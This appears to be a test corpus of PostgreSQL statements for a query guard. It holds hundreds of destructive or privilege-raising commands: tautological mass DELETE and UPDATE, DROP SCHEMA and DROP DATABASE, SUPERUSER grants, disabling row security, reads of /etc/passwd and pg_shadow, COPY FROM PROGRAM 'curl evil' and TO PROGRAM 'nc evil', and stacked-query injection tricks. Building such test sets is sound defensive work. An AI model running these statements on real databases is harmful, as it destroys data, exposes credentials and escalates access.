DELETE FROM orders

DELETE FROM orders WHERE true

DELETE FROM orders WHERE 1 = 1

DELETE FROM orders WHERE id = id

DELETE FROM orders WHERE id IS NOT NULL OR id IS NULL

DELETE FROM orders WHERE 'a' = 'a'

DELETE FROM orders WHERE id > 0 OR true

DELETE FROM orders WHERE note LIKE '%' OR note IS NULL

DELETE FROM orders WHERE NOT false

DELETE FROM orders WHERE id IN (SELECT id FROM orders)

DELETE FROM orders USING users

DELETE FROM orders WHERE EXISTS (SELECT 1)

DELETE FROM orders WHERE (SELECT true)

delete/**/from/* x */orders

DELETE FROM ONLY orders AS o

UPDATE users SET admin = true

UPDATE users SET admin = true WHERE 2 > 1

UPDATE users SET email = 'x' FROM orders

UPDATE users SET admin = true WHERE coalesce(true, admin)

WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d

WITH a AS (SELECT 1), b AS (UPDATE users SET x = 1 RETURNING 1) SELECT * FROM a

SELECT * FROM (WITH d AS (SELECT 1) SELECT * FROM d) x; DELETE FROM orders

EXPLAIN ANALYZE DELETE FROM orders

EXPLAIN (ANALYZE true, VERBOSE) UPDATE users SET x = 1

PREPARE p AS DELETE FROM orders; EXECUTE p

MERGE INTO a USING b ON true WHEN MATCHED THEN DELETE

COMMIT; DROP SCHEMA public CASCADE

ROLLBACK; DELETE FROM orders; BEGIN

SELECT 1; TRUNCATE orders

TRUNCATE orders CASCADE

TRUNCATE TABLE a, b RESTART IDENTITY

DROP TABLE users

DROP TABLE IF EXISTS a, b CASCADE

DROP SCHEMA public CASCADE

DROP DATABASE shop

DROP INDEX CONCURRENTLY idx

DROP VIEW v

DROP MATERIALIZED VIEW v

DROP FUNCTION f(int)

DROP EXTENSION pgcrypto

DROP TYPE t

DROP TRIGGER audit ON orders

DROP POLICY p ON orders

DROP ROLE bob

DROP OWNED BY bob

DROP USER MAPPING FOR bob SERVER s

DROP SUBSCRIPTION s

DROP PUBLICATION p

REASSIGN OWNED BY bob TO eve

ALTER TABLE users DROP COLUMN email

ALTER TABLE users ADD COLUMN x int

ALTER TABLE users ALTER COLUMN x TYPE bigint

ALTER TABLE users RENAME TO u

ALTER TABLE users DISABLE TRIGGER ALL

ALTER TABLE users DISABLE ROW LEVEL SECURITY

ALTER TABLE users OWNER TO eve

ALTER TABLE a DETACH PARTITION b

ALTER TABLE users SET UNLOGGED

ALTER SEQUENCE s RESTART WITH 1

ALTER SYSTEM SET archive_mode = off

ALTER DATABASE shop SET default_transaction_read_only = off

ALTER ROLE eve SUPERUSER

ALTER USER eve PASSWORD 'x'

ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO eve

ALTER VIEW v RENAME TO w

ALTER TYPE color ADD VALUE 'red'

CREATE TABLE x (id int)

CREATE TABLE x AS SELECT * FROM users

SELECT * INTO x FROM users

CREATE UNLOGGED TABLE x (id int)

CREATE INDEX idx ON orders (id)

CREATE UNIQUE INDEX CONCURRENTLY idx ON orders (id)

CREATE VIEW v AS SELECT * FROM users

CREATE OR REPLACE VIEW v AS SELECT * FROM users

CREATE MATERIALIZED VIEW mv AS SELECT 1

CREATE SCHEMA x

CREATE EXTENSION dblink

CREATE ROLE eve LOGIN PASSWORD 'x'

CREATE USER eve SUPERUSER

CREATE DATABASE x

CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$

CREATE OR REPLACE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$

CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()

CREATE RULE r AS ON SELECT TO users DO INSTEAD DELETE FROM orders

CREATE POLICY p ON orders USING (true)

CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')

CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p

CREATE PUBLICATION p FOR ALL TABLES

CREATE FOREIGN TABLE f (a int) SERVER s

CREATE EVENT TRIGGER t ON ddl_command_start EXECUTE FUNCTION f()

CREATE LANGUAGE plpython3u

CREATE CAST (a AS b) WITH FUNCTION f(a)

CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = f)

CREATE AGGREGATE a (int) (SFUNC = f, STYPE = int)

CREATE TYPE color AS ENUM ('a')

CREATE DOMAIN d AS text

CREATE SEQUENCE s

CREATE TABLESPACE t LOCATION '/x'

IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x

COMMENT ON TABLE orders IS 'x'

SECURITY LABEL ON TABLE orders IS 'x'

GRANT ALL ON orders TO eve

GRANT admin TO eve

GRANT SELECT ON ALL TABLES IN SCHEMA public TO PUBLIC

REVOKE ALL ON orders FROM app

SET ROLE postgres

SET LOCAL ROLE admin

SET SESSION AUTHORIZATION postgres

SELECT set_config('role', 'postgres', false)

SET session_replication_role = replica

SELECT set_config('session_replication_role', 'replica', true)

SET default_transaction_read_only = off

SET transaction_read_only = off

SET TRANSACTION READ WRITE

SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE

SET standard_conforming_strings = off

SET search_path = evil, pg_catalog

SET search_path = pg_temp, public

SET synchronous_commit = off

SET log_statement = 'none'

SET local_preload_libraries = 'x'

SET zero_damaged_pages = on

SET ignore_system_indexes = on

SET allow_system_table_mods = on

SET lo_compat_privileges = on

SET dbguard.subject = 'eve'

SELECT set_config('dbguard.subject', 'eve', false)

RESET dbguard.subject

SELECT set_config('dbguard' || '.subject', 'eve', false)

SELECT set_config(name, 'x', false) FROM t

UPDATE pg_settings SET setting = 'off' WHERE name = 'row_security'

UPDATE pg_catalog.pg_class SET relname = 'x' WHERE oid = 1

DELETE FROM pg_catalog.pg_proc WHERE oid = 1

INSERT INTO pg_catalog.pg_authid VALUES (1)

COPY users TO '/tmp/x'

COPY users FROM '/etc/passwd'

COPY users FROM PROGRAM 'curl evil'

COPY (SELECT * FROM users) TO PROGRAM 'nc evil 1'

COPY (DELETE FROM users RETURNING *) TO STDOUT

SELECT pg_read_file('/etc/passwd')

SELECT * FROM pg_read_binary_file('x')

SELECT * FROM pg_ls_dir('/')

SELECT pg_stat_file('x')

SELECT lo_import('/etc/passwd')

SELECT lo_export(1, '/tmp/x')

SELECT lo_from_bytea(0, 'x')

SELECT lo_unlink(1)

SELECT pg_logfile_rotate()

SELECT pg_rotate_logfile()

SELECT pg_terminate_backend(1)

SELECT pg_cancel_backend(pid) FROM pg_stat_activity

SELECT pg_reload_conf()

SELECT pg_switch_wal()

SELECT pg_create_restore_point('x')

SELECT pg_create_physical_replication_slot('x')

SELECT pg_drop_replication_slot('x')

SELECT * FROM pg_logical_slot_get_changes('x', NULL, NULL)

SELECT pg_promote()

SELECT pg_wal_replay_pause()

SELECT pg_stat_reset()

SELECT pg_stat_statements_reset()

SELECT setval('orders_id_seq', 1)

SELECT query_to_xml('DELETE FROM orders', true, true, '')

SELECT database_to_xml(true, true, '')

SELECT dblink_exec('host=evil', 'DROP TABLE x')

SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)

SELECT dblink_connect('host=evil')

SELECT http_get('http://evil')

SELECT my_function(1)

SELECT app.purge()

SELECT * FROM my_function()

SELECT 1 FROM users WHERE app.purge(id)

SELECT * FROM users ORDER BY purge(id)

INSERT INTO a VALUES (purge(1))

UPDATE a SET x = purge(1) WHERE id = 1

SELECT (SELECT purge(1))

SELECT CASE WHEN false THEN purge(1) END

SELECT * FROM a, LATERAL purge(a.id)

VALUES (purge(1))

CALL p()

DO $$ BEGIN DELETE FROM orders; END $$

DO $$ BEGIN EXECUTE 'drop table ' || 'x'; END $$

DO LANGUAGE plpgsql 'BEGIN PERFORM purge(); END'

LOAD '$libdir/x'

LOCK TABLE orders

LOCK TABLE orders IN EXCLUSIVE MODE

VACUUM FULL orders

CLUSTER orders

REINDEX TABLE orders

REINDEX DATABASE shop

REFRESH MATERIALIZED VIEW mv

CHECKPOINT

PREPARE TRANSACTION 'x'

COMMIT PREPARED 'x'

DECLARE c CURSOR FOR SELECT purge(1)

PREPARE p AS SELECT purge(1); EXECUTE p

SELECT 1; SELECT 2; SELECT purge(3)

SELECT U&"\0070urge"(1)

SELECT "PURGE"(1)

SELECT pg_catalog.pg_read_file('x')

SELECT 1 /* /* nested */ ; */; DROP TABLE x

SELECT 'a\'; DROP TABLE x; --'

SELECT E'a\'; SELECT 1; --'; DROP TABLE x

selct 1

DELETE orders

SELECT 1 WHERE 1 = 1; DELETE FROM a WHERE b = b

SELECT currtid(1)

ANALYZE VERBOSE; VACUUM (FULL)

NOTIFY x; ALTER TABLE a ADD b int

SELECT pg_extension_config_dump('x', '')

SELECT plpy_exec('x')

SELECT pg_file_write('x', 'y', true)

SELECT pg_replication_origin_create('x')

SELECT pg_import_system_collations('public')

SELECT ts_stat('DELETE FROM x')

SELECT * FROM ts_stat('SELECT purge()')

SELECT * FROM crosstab('DELETE FROM x RETURNING 1')

SELECT * FROM connectby('a', 'b', 'c', 'd', 0)

INSERT INTO a (b) SELECT purge(1) ON CONFLICT DO NOTHING

SELECT pg_advisory_lock(purge(1))

GRANT EXECUTE ON FUNCTION f TO PUBLIC

EXECUTE unknown_statement

ALTER EXTENSION x UPDATE

ALTER FUNCTION f() SECURITY DEFINER

ALTER SUBSCRIPTION s ENABLE

ALTER PUBLICATION p ADD TABLE x

ALTER SERVER s OPTIONS (SET host 'x')

ALTER POLICY p ON t USING (true)

ALTER EVENT TRIGGER t DISABLE

ALTER LARGE OBJECT 1 OWNER TO eve

ALTER STATISTICS s SET STATISTICS 1

CREATE STATISTICS s ON a, b FROM t

CREATE TEXT SEARCH CONFIGURATION x (COPY = english)

CREATE COLLATION c FROM "C"

CREATE CONVERSION c FOR 'A' TO 'B' FROM f

CREATE ACCESS METHOD m TYPE TABLE HANDLER h

CREATE TRANSFORM FOR int LANGUAGE sql (FROM SQL WITH FUNCTION f(internal))

SELECT rolname, rolpassword FROM pg_authid

SELECT * FROM pg_shadow

DELETE FROM t WHERE id >= 0 OR id < 0

DELETE FROM t WHERE id = $1 OR 1 = 1

DELETE FROM t WHERE id IN (SELECT id FROM t t2)

DELETE FROM t WHERE id = ANY (ARRAY(SELECT id FROM t))

DELETE FROM t WHERE length(name) >= 0

DELETE FROM t WHERE name ~ '.*'

DELETE FROM t WHERE name LIKE '%%'

DELETE FROM t WHERE coalesce(id, 1) IS NOT NULL

DELETE FROM t WHERE id BETWEEN -2147483648 AND 2147483647

DELETE FROM t WHERE now() > '2000-01-01'

DELETE FROM t WHERE current_user = current_user

DELETE FROM t WHERE random() >= 0

DELETE FROM t WHERE $1

DELETE FROM t WHERE $1 = $1

DELETE FROM t WHERE (id) = (id)

DELETE FROM t WHERE id + 0 = id

DELETE FROM t WHERE id IS NOT DISTINCT FROM id

DELETE FROM t WHERE id IS DISTINCT FROM NULL

DELETE FROM t WHERE CASE WHEN true THEN true END

DELETE FROM t WHERE (SELECT count(*) FROM t) > 0

DELETE FROM t USING (SELECT 1) x

DELETE FROM t WHERE t IS NOT NULL OR t IS NULL

DELETE FROM t WHERE 1

UPDATE t SET a = 1 WHERE 'x' <> 'y'

UPDATE t SET a = 1 WHERE NOT (1 = 2)

UPDATE t SET a = 1 WHERE true = true AND 1 = 1

UPDATE t SET a = 1 FROM u WHERE u.id = 1

UPDATE t SET a = 1 FROM u WHERE u.id = u.id

MERGE INTO t USING (SELECT 1) s ON false WHEN NOT MATCHED BY SOURCE THEN DELETE

MERGE INTO t USING s ON t.id = t.id WHEN MATCHED THEN UPDATE SET a = 1

MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE

INSERT INTO t SELECT * FROM dblink('x','y') AS z(a int)

INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = evil()

INSERT INTO t VALUES (pg_read_file('x'))

WITH x AS MATERIALIZED (INSERT INTO a SELECT evil()) SELECT 1

SELECT evil(), count(*) FROM t GROUP BY evil()

SELECT count(*) FROM t HAVING evil()

SELECT * FROM t LIMIT evil()

SELECT * FROM t FOR UPDATE OF t NOWAIT; DROP TABLE t

SELECT x.* FROM (VALUES (evil())) x

SELECT ARRAY[evil()]

SELECT ROW(evil())

SELECT (evil()).a

SELECT evil(t) FROM t

SELECT 1 WHERE EXISTS (SELECT evil())

SELECT sum(evil(x)) OVER (PARTITION BY evil(y)) FROM t

SELECT COALESCE(1, evil())

SELECT evil(VARIADIC ARRAY[1])

SELECT pg_catalog.set_config('session_replication_role', 'replica', false)

SELECT set_config('search_path', 'evil, pg_catalog', false)

SELECT set_config(NULL, 'x', true)

SET LOCAL session_replication_role TO 'replica'

SET SESSION "session_replication_role" = replica

SET ROLE NONE

SET SESSION ROLE admin

SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()

SELECT pg_ls_logdir()

SELECT pg_read_file('postgresql.conf', 0, 100)

SELECT usename, passwd FROM pg_shadow

SELECT * FROM pg_user_mappings

SELECT subconninfo FROM pg_subscription

SELECT query_to_xml_and_xmlschema('select evil()', true, true, '')

SELECT schema_to_xml('public', true, true, '')

SELECT dblink_send_query('x', 'y')

SELECT postgres_fdw_disconnect_all()

SELECT lo_put(1, 0, 'x')

SELECT lo_creat(1), lo_create(1), lo_open(1, 131072), lowrite(0, 'x'), lo_truncate(0, 1)

SELECT pg_create_logical_replication_slot('x', 'test_decoding')

SELECT pg_replication_slot_advance('x', '0/0')

SELECT pg_start_backup('x'), pg_stop_backup()

SELECT pg_backup_start('x')

SELECT pg_stat_reset_shared('bgwriter')

SELECT pg_truncate_visibility_map('t')

SELECT heap_force_kill('t', '{}')

SELECT gin_clean_pending_list('i'), brin_summarize_new_values('i')

SELECT cron.schedule('x', '* * * * *', 'DELETE FROM t')

SELECT pg_background_launch('x')

SELECT net.http_post('http://x')

SELECT create_hypertable('t', 'ts')

SELECT partman.run_maintenance()

SELECT pg_catalog.pg_file_unlink('x')

SELECT pg_drop_replication_slot(slot_name) FROM pg_replication_slots

SELECT pg_notify('x', evil())

SELECT nextval(evil())

SELECT currval('s'), setval('s', 1, false)

COPY (SELECT evil()) TO STDOUT

COPY t (a) FROM STDIN WHERE evil()

COPY (UPDATE a SET b = 1 RETURNING 1) TO STDOUT

COPY t TO '/tmp/x' (FORMAT csv)

EXPLAIN (ANALYZE) INSERT INTO t SELECT evil()

EXPLAIN ANALYZE SELECT evil()

EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1

EXPLAIN (ANALYZE TRUE) EXECUTE p

EXPLAIN SELECT evil()

PREPARE p AS DELETE FROM t; EXPLAIN ANALYZE EXECUTE p

CREATE TABLE x AS EXECUTE p

CREATE TEMP TABLE x AS SELECT evil()

CREATE TEMP TABLE x AS SELECT pg_read_file('x')

CREATE TEMP TABLE x (a int DEFAULT evil())

CREATE TEMP VIEW x AS SELECT evil()

CREATE TABLE pg_temp.x AS SELECT pg_read_file('x')

CREATE FUNCTION pg_temp.f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'

CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u

ALTER TABLE t ENABLE REPLICA TRIGGER x

ALTER TABLE t ADD CONSTRAINT c CHECK (evil())

ALTER TABLE t FORCE ROW LEVEL SECURITY

ALTER TABLE IF EXISTS t SET SCHEMA x

ALTER TABLE ALL IN TABLESPACE a SET TABLESPACE b

ALTER INDEX i RENAME TO j

ALTER DOMAIN d DROP NOT NULL

ALTER SYSTEM RESET ALL

ALTER ROLE ALL SET search_path = evil

ALTER GROUP g ADD USER eve

ALTER TABLESPACE x RENAME TO y

ALTER DATABASE d OWNER TO eve

ALTER DATABASE d REFRESH COLLATION VERSION

ALTER COLLATION c REFRESH VERSION

CREATE GROUP g

CREATE UNIQUE INDEX ON t (evil(a))

DROP ROUTINE f

DROP OPERATOR + (int, int)

DROP AGGREGATE a(int)

DROP RULE r ON t

DROP SERVER s CASCADE

DROP SEQUENCE s

DROP DOMAIN d

DROP TABLESPACE t

DROP CAST (a AS b)

DROP LANGUAGE l

DROP STATISTICS s

DROP TEXT SEARCH CONFIGURATION c

DROP COLLATION c

DROP ACCESS METHOD m

DROP EVENT TRIGGER e

DROP FOREIGN TABLE f

DROP USER eve

DROP GROUP g

TRUNCATE ONLY t

TRUNCATE t CONTINUE IDENTITY RESTRICT

LOCK t IN ACCESS EXCLUSIVE MODE NOWAIT

LOCK TABLE t IN SHARE ROW EXCLUSIVE MODE

DISCARD ALL; SET ROLE x

SECURITY LABEL FOR x ON COLUMN t.a IS 'x'

REFRESH MATERIALIZED VIEW CONCURRENTLY x

REINDEX SYSTEM d

REINDEX (CONCURRENTLY) INDEX i

CLUSTER

VACUUM (FULL, ANALYZE) t

GRANT pg_read_server_files TO eve

GRANT SET ON PARAMETER x TO eve

REVOKE GRANT OPTION FOR ALL ON t FROM eve CASCADE

CALL evil(1, 2)

DO 'begin perform evil(1); end'

DO LANGUAGE plpython3u 'import os'

BEGIN; DELETE FROM t; ROLLBACK

BEGIN; SET TRANSACTION READ WRITE; DROP TABLE x

SET TRANSACTION SNAPSHOT 'x'; DROP TABLE x

COMMIT; DO $$ BEGIN TRUNCATE users; END $$

COMMIT AND CHAIN; TRUNCATE t

ROLLBACK PREPARED 'x'

SELECT 1 INTO x

SELECT * INTO UNLOGGED x FROM y

SELECT $tag$;$tag$; DROP TABLE x

SELECT ';' ; DELETE FROM "t"

SELECT "a""b"; DELETE FROM t

﻿DELETE FROM t

delete from t as "where" 

DECLARE c CURSOR WITH HOLD FOR SELECT evil()

DECLARE c CURSOR FOR DELETE FROM t RETURNING *

FETCH ALL FROM c; DROP TABLE x

CLOSE ALL; DELETE FROM t

LISTEN x; DELETE FROM t

NOTIFY x; GRANT ALL ON t TO PUBLIC

UPDATE ONLY t SET a = 1

UPDATE t SET (a, b) = (SELECT 1, evil()) WHERE id = 1

UPDATE t SET a = DEFAULT

INSERT INTO t SELECT * FROM u RETURNING evil()

DELETE FROM t WHERE id = 1 RETURNING evil()

INSERT INTO pg_temp.x SELECT pg_read_file('x')

INSERT INTO information_schema.sql_features VALUES (1)

DELETE FROM t WHERE id = t.id

DELETE FROM t a WHERE a.id = id

DELETE FROM t WHERE t.a = 1 OR a <> 1

UPDATE users SET admin = true WHERE id = users.id

DELETE FROM orders WHERE id::text LIKE '%'

DELETE FROM orders WHERE id = id::int

DELETE FROM orders WHERE upper(name) = upper(name)

DELETE FROM orders WHERE id % 1 = 0

DELETE FROM orders WHERE id - id = 0

DELETE FROM orders WHERE id * 0 = 0

DELETE FROM orders WHERE greatest(id, 0) >= 0

DELETE FROM orders WHERE ctid IS NOT NULL

DELETE FROM orders WHERE ctid = ANY(ARRAY(SELECT ctid FROM orders))

DELETE FROM orders WHERE tableoid = 'orders'::regclass

DELETE FROM orders WHERE tableoid IS NOT NULL

DELETE FROM orders WHERE xmin IS NOT NULL

DELETE FROM orders WHERE id IN (1) OR id NOT IN (1)

DELETE FROM orders WHERE NOT (id IS NULL AND id IS NOT NULL)

DELETE FROM orders WHERE NOT EXISTS (SELECT 1 WHERE false)

DELETE FROM orders WHERE EXISTS (SELECT * FROM users)

DELETE FROM orders WHERE 1 IN (1,2)

DELETE FROM orders WHERE 'a' IN ('a')

DELETE FROM orders WHERE 5 BETWEEN 1 AND 10

DELETE FROM orders WHERE date '2024-01-01' < now()

DELETE FROM orders WHERE current_date > '1970-01-01'

DELETE FROM orders WHERE version() LIKE 'Postgre%'

DELETE FROM orders WHERE pg_backend_pid() > 0

DELETE FROM orders WHERE (1,1) = (1,1)

DELETE FROM orders WHERE ROW(1) IS NOT NULL

DELETE FROM orders WHERE NULL IS NULL

DELETE FROM orders WHERE true IS TRUE

DELETE FROM orders WHERE (id > 5) IS NOT UNKNOWN

DELETE FROM orders WHERE (id > 5) IN (true, false)

DELETE FROM orders WHERE name SIMILAR TO '%'

DELETE FROM orders WHERE name ~ ''

DELETE FROM orders WHERE strpos(name, '') > 0

DELETE FROM orders WHERE starts_with(name, '')

DELETE FROM orders WHERE coalesce(name, '') = coalesce(name, '')

DELETE FROM orders WHERE nullif(1, 2) = 1

DELETE FROM orders WHERE CASE WHEN id > 0 THEN true ELSE true END

DELETE FROM orders WHERE id > 0 OR id <= 0

DELETE FROM orders WHERE id > -1

DELETE FROM orders WHERE id <> -1

DELETE FROM orders WHERE id != 0

DELETE FROM orders WHERE id IS NOT NULL

DELETE FROM orders WHERE id IS NULL OR true

DELETE FROM orders WHERE true AND (true OR id = 1)

DELETE FROM orders WHERE (true)::boolean

DELETE FROM orders WHERE 't'::bool

DELETE FROM orders WHERE bool 'yes'

DELETE FROM orders WHERE CAST(1 AS boolean)

DELETE FROM orders WHERE 1::bool

DELETE FROM orders o WHERE EXISTS (SELECT 1 FROM orders x WHERE x.id = o.id)

DELETE FROM orders USING generate_series(1,1)

DELETE FROM orders USING users WHERE users.id = 1

DELETE FROM orders USING users WHERE true

DELETE FROM orders USING users WHERE orders.id = orders.id

WITH x AS (SELECT id FROM orders) DELETE FROM orders USING x WHERE orders.id = x.id

WITH x AS (SELECT id FROM orders) DELETE FROM orders WHERE id IN (SELECT id FROM x)

DELETE FROM orders WHERE id IN (SELECT id FROM orders ORDER BY id)

DELETE FROM orders WHERE id IN (SELECT id FROM orders UNION SELECT id FROM orders)

DELETE FROM orders WHERE id IN (TABLE orders)

UPDATE users u SET admin = true FROM users v

UPDATE users u SET admin = true FROM users v WHERE u.id = v.id

MERGE INTO users u USING users v ON u.id = v.id WHEN MATCHED THEN DELETE

MERGE INTO users u USING (SELECT 1) v ON true WHEN MATCHED THEN UPDATE SET admin = true

SELECT set_config('search_path', $1, false)

SELECT set_config('role', $1, true)

SELECT set_config($1, 'off', true)

EXPLAIN (ANALYZE off, ANALYZE) DELETE FROM orders

INSERT INTO jobs (queue) SELECT q.id FROM tasks t LEFT JOIN queues q ON true WHERE t.name = $1 ON CONFLICT (key) DO UPDATE SET revision = jobs.revision + 1

DELETE FROM orders WHERE id IN (SELECT o.id FROM orders o LEFT JOIN users u ON u.id = o.user_id)

DO 'DECLARE ending int; BEGIN NULL; END' -- c
'ING := 1; DELETE FROM orders; END'

ALTER ROLE app SET row_security = off

ALTER DATABASE shop SET row_security = off
